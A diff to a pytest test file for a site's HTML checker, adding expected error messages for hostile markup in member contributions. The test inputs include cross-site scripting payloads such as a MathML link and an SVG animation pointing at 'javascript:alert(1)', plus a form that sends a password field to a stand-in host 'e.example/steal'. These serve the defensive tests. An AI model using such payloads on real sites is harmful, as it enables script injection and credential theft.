@@ -29,6 +29,10 @@ AS_CODE = "remove it (to show it as code, put it between ``` fences)"
 SCRIPT = f"<script> is not allowed: it runs code in readers' browsers; {AS_CODE}"
 EMBEDS = "is not allowed: it embeds another page or program in the site; " + AS_CODE
 HANDLER = "event handlers run code in readers' browsers; remove it"
+NOT_LISTED = (
+    "is not among the elements members' HTML may use (see 'HTML you may write' in "
+    "CONTRIBUTING.md)"
+)
 READ_DIFFERENTLY = (
     "is not allowed: it is read differently by browsers and by checkers, so it can hide code; "
     + AS_CODE
@@ -74,7 +78,10 @@ HOSTILE = [
             C + "amara.md": "---\nname: Amara Okafor\n---\nHost. "
             '<form action="https://e.example/steal"><input name=pw></form>\n'
         },
-        [f"{C}amara.md:4: error: <form> is not allowed: it collects what readers type; {AS_CODE}"],
+        [
+            f"{C}amara.md:4: error: <form> is not allowed: it collects what readers type; {AS_CODE}",
+            f"{C}amara.md:4: error: <input> is not allowed: it collects what readers type; {AS_CODE}",
+        ],
         id="form in a profile",
     ),
     pytest.param(
@@ -236,12 +243,20 @@ HOSTILE = [
     ),
     pytest.param(
         piece('<math><maction xlink:href="javascript:alert(1)">x</maction></math>\n'),
-        [f"{PIECE}:6: error: <maction href> 'javascript:alert(1)' {JS}"],
+        [
+            f"{PIECE}:6: error: <maction href> 'javascript:alert(1)' {JS}",
+            f"{PIECE}:6: error: <maction> is not allowed: it {NOT_LISTED}; {AS_CODE}",
+            f"{PIECE}:6: error: <math> {READ_DIFFERENTLY}",
+        ],
         id="mathml link",
     ),
     pytest.param(
         piece('<svg><a><animate attributeName="href" to="javascript:alert(1)"/></a></svg>\n'),
-        [f"{PIECE}:6: error: <animate to> 'javascript:alert(1)' {JS}"],
+        [
+            f"{PIECE}:6: error: <animate to> 'javascript:alert(1)' {JS}",
+            f"{PIECE}:6: error: <animate> is not allowed: it can rewrite another element's "
+            f"attributes, a link into code among them; {AS_CODE}",
+        ],
         id="svg animation rewriting href",
     ),
     pytest.param(
